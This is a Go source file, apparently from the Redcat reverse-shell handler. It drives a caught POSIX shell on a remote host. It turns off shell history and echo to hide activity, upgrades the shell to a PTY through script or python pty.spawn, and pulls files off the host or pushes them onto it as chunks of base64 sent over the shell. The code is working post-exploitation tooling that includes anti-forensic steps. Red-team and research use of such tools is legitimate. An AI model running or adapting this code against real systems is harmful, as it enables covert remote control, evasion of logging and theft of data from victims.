package platform

import (
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/Danakane/Redcat/internal/channel"
	"github.com/Danakane/Redcat/internal/logx"
	"github.com/Danakane/Redcat/internal/transaction"
)

// linuxPlatform implements spec.md §4.4/§4.4.1 for a POSIX remote shell.
// The shell preference list, stty/history one-liners and PTY-upgrade
// probe order below are carried, behavior-for-behavior, from
// _examples/original_source/platform.py per SPEC_FULL.md §6.
type linuxPlatform struct {
	base
	termState *termState // saved local terminal attributes, nil until first Interactive(true)
	scratchShell bool     // true while the scratch sh spawned by Interactive(false) runs; cleared when Interactive(true) sends "exit" to leave it
}

func newLinux(ch *channel.Channel, cfg Config) *linuxPlatform {
	p := &linuxPlatform{}
	p.ch = ch
	p.cfg = cfg
	p.build = buildPosix
	return p
}

func (p *linuxPlatform) Name() Name { return Linux }

// buildPosix frames payload as spec.md §4.3 specifies:
// `echo <S>; <P> && echo <C>; echo <E>\n`
func buildPosix(payload []byte, tok transaction.Tokens) []byte {
	return []byte(fmt.Sprintf("echo %s; %s && echo %s; echo %s\n", tok.Start, string(payload), tok.Control, tok.End))
}

func (p *linuxPlatform) SendCmd(cmd string, wait time.Duration) (ok bool, errMsg string) {
	ok, errMsg = p.ch.Send([]byte(cmd + "\n"))
	if wait > 0 {
		time.Sleep(wait)
	}
	return
}

var betterShells = []string{"zsh", "bash", "ksh", "fish", "dash"}

// ptyUpgradeOptions mirrors original_source/platform.py's fixed probe
// order: `script` first, then a run of python interpreters.
var ptyUpgradeOptions = []struct {
	binaries []string
	format   string
}{
	{[]string{"script"}, "%s -qc %s /dev/null 2>&1\n"},
	{
		[]string{"python", "python2", "python2.7", "python3", "python3.6", "python3.8", "python3.9", "python3.10", "python3.11"},
		"%s -c \"import pty; pty.spawn('%s')\" 2>&1\n",
	},
}

// which probes for a binary on the remote $PATH via an unframed raw
// command (framing would deadlock here, spec.md §4.4), purging the queue
// first/after so the probe's own output can't pollute later reads.
func (p *linuxPlatform) which(tok channel.LockToken, name string) string {
	p.ch.Purge()
	p.ch.Send([]byte(fmt.Sprintf("which %s\n", name)))
	p.ch.WaitData(5 * time.Second)
	time.Sleep(100 * time.Millisecond)
	out := p.ch.Retrieve(0)
	return string(out)
}

// disableHistory/disableEcho match spec.md §4.4 exactly.
func (p *linuxPlatform) disableHistory() {
	p.ch.Send([]byte("set +o history; unset HISTFILE; export HISTCONTROL=ignorespace; unset PROMPT_COMMAND\n"))
}

func (p *linuxPlatform) disableEcho() {
	p.ch.Send([]byte("stty -echo\n"))
}

// getPTY probes for an upgrade path and, on the first hit, spawns it.
// Once has-pty is set it is never cleared for the session's lifetime
// (spec.md §8 invariant 8).
func (p *linuxPlatform) getPTY(tok channel.LockToken) bool {
	if p.hasPTY {
		return true
	}
	bestShell := "sh"
	for _, shell := range betterShells {
		if strings.Contains(p.which(tok, shell), shell) {
			bestShell = shell
			break
		}
	}
	for _, opt := range ptyUpgradeOptions {
		for _, binary := range opt.binaries {
			if strings.Contains(p.which(tok, binary), binary) {
				payload := fmt.Sprintf(opt.format, binary, bestShell)
				p.ch.Send([]byte(payload))
				p.hasPTY = true
				break
			}
		}
		if p.hasPTY {
			break
		}
	}
	p.ch.WaitData(2 * time.Second)
	time.Sleep(100 * time.Millisecond)
	p.ch.Purge()
	return p.hasPTY
}

// Interactive implements the POSIX state machine of spec.md §4.4.1.
func (p *linuxPlatform) Interactive(tok channel.LockToken, value bool, sessionID string) bool {
	p.modeLock.Lock()
	defer p.modeLock.Unlock()
	if p.interactive == value {
		return p.interactive
	}
	if value {
		p.termState = makeRaw()
		p.disableHistory()
		p.disableEcho()

		cols, rows := termSize()
		payload := fmt.Sprintf("stty sane; stty rows %d columns %d; export TERM=%s\n", rows, cols, p.cfg.Term)
		p.ch.Send([]byte(payload))

		if p.hasPTY && p.scratchShell {
			p.ch.Send([]byte("exit\n"))
			p.scratchShell = false
		} else if !p.hasPTY {
			p.getPTY(tok)
		}

		for _, shell := range betterShells {
			if strings.Contains(p.which(tok, shell), shell) {
				prompt := fmt.Sprintf("export PS1='\\[\\033[1;36m\\][redcat:%s]\\[\\033[0m\\]# '\n", sessionID)
				p.ch.Send([]byte(shell + "\n"))
				time.Sleep(200 * time.Millisecond)
				p.ch.Send([]byte(prompt))
				break
			}
		}
		p.ch.WaitData(2 * time.Second)
		time.Sleep(500 * time.Millisecond)
		p.ch.Purge()
		p.interactive = true
	} else {
		p.ch.Send([]byte{0x03}) // Ctrl-C: abandon any half-typed line
		restoreTerm(p.termState)
		p.ch.Send([]byte("sh\n"))
		p.scratchShell = true
		p.disableHistory()
		p.disableEcho()
		p.ch.Send([]byte("unset PS1\n"))
		p.interactive = false
	}
	return p.interactive
}

func (p *linuxPlatform) Whoami(tok channel.LockToken) (ok bool, errMsg string, user string) {
	ok, cmdOk, data := p.Exec(tok, []byte("whoami"), !p.hasPTY, 0)
	if !ok {
		return false, "transaction failed", ""
	}
	if !cmdOk {
		return true, "remote command failed", ""
	}
	return true, "", strings.TrimSpace(string(data))
}

func (p *linuxPlatform) Hostname(tok channel.LockToken) (ok bool, errMsg string, host string) {
	ok, cmdOk, data := p.Exec(tok, []byte("hostname"), !p.hasPTY, 0)
	if !ok {
		return false, "transaction failed", ""
	}
	if !cmdOk {
		return true, "remote command failed", ""
	}
	return true, "", strings.TrimSpace(string(data))
}

var posixDownloadErrors = map[string]string{
	"No such file":      "remote file not found",
	"Is a directory":    "remote path is a directory",
	"Permission denied": "permission denied reading remote file",
}

func (p *linuxPlatform) Download(tok channel.LockToken, remotePath string, progress func(sent, total int)) (ok bool, errMsg string, data []byte) {
	probe := fmt.Sprintf("head -c1 %s >/dev/null", shellQuote(remotePath))
	txOk, cmdOk, out := p.Exec(tok, []byte(probe), !p.hasPTY, 0)
	if !txOk {
		return false, "transaction failed", nil
	}
	if !cmdOk {
		for needle, msg := range posixDownloadErrors {
			if strings.Contains(string(out), needle) {
				return true, msg, nil
			}
		}
		return true, "remote read probe failed", nil
	}
	txOk, cmdOk, b64 := p.Exec(tok, []byte(fmt.Sprintf("base64 %s", shellQuote(remotePath))), !p.hasPTY, 60*time.Second)
	if !txOk {
		return false, "transaction failed", nil
	}
	if !cmdOk {
		return true, "remote base64 encoding failed", nil
	}
	decoded, err := base64.StdEncoding.DecodeString(strings.TrimSpace(string(b64)))
	if err != nil {
		return false, fmt.Sprintf("decoding transferred bytes: %v", err), nil
	}
	return true, "", decoded
}

const posixUploadChunkSize = 2048

func (p *linuxPlatform) Upload(tok channel.LockToken, remotePath string, data []byte, progress func(sent, total int)) (ok bool, errMsg string) {
	encoded := base64.StdEncoding.EncodeToString(data)
	chunks := chunkString(encoded, posixUploadChunkSize)

	tmpName := fmt.Sprintf(".redcat-upload-%s.tmp", tokenSuffix())
	tmpPath := tmpName
	if idx := strings.LastIndex(remotePath, "/"); idx >= 0 {
		tmpPath = remotePath[:idx+1] + tmpName
	}

	var ok2 bool
	c := p.ch
	c.WithTransactionLock(tok, func() {
		ok2 = true
		logx.Get().Info("starting upload of ", len(data), " bytes to ", remotePath)
		okTouch, cmdOk, _ := p.Exec(tok, []byte(fmt.Sprintf("touch %s", shellQuote(tmpPath))), !p.hasPTY, 0)
		if !okTouch || !cmdOk {
			ok2 = false
			errMsg = "could not create remote temp file"
			return
		}
		for i, chunk := range chunks {
			redirect := ">>"
			if i == 0 {
				redirect = ">"
			}
			cmd := fmt.Sprintf("echo %s %s %s", chunk, redirect, shellQuote(tmpPath))
			okChunk, cmdOkChunk, _ := p.Exec(tok, []byte(cmd), !p.hasPTY, 0)
			if !okChunk || !cmdOkChunk {
				ok2 = false
				errMsg = fmt.Sprintf("upload failed at chunk %d/%d", i+1, len(chunks))
				return
			}
			if progress != nil {
				progress(i+1, len(chunks))
			}
			if p.cfg.ChunkDelay > 0 {
				time.Sleep(p.cfg.ChunkDelay)
			}
		}
		okDecode, cmdOkDecode, _ := p.Exec(tok, []byte(fmt.Sprintf("base64 -d %s > %s", shellQuote(tmpPath), shellQuote(remotePath))), !p.hasPTY, 60*time.Second)
		if !okDecode || !cmdOkDecode {
			ok2 = false
			errMsg = "remote base64 decode failed"
			return
		}
		p.Exec(tok, []byte(fmt.Sprintf("rm -f %s", shellQuote(tmpPath))), !p.hasPTY, 0)
	})
	return ok2, errMsg
}

func shellQuote(path string) string {
	return "'" + strings.ReplaceAll(path, "'", `'\''`) + "'"
}

func chunkString(s string, size int) []string {
	var out []string
	for len(s) > 0 {
		if len(s) < size {
			out = append(out, s)
			break
		}
		out = append(out, s[:size])
		s = s[size:]
	}
	return out
}

func tokenSuffix() string {
	// Not security sensitive (just a scratch filename collision
	// avoider), so a short base-36 suffix from the wall clock suffices.
	return strconv.FormatInt(time.Now().UnixNano()%1000000, 36)
}
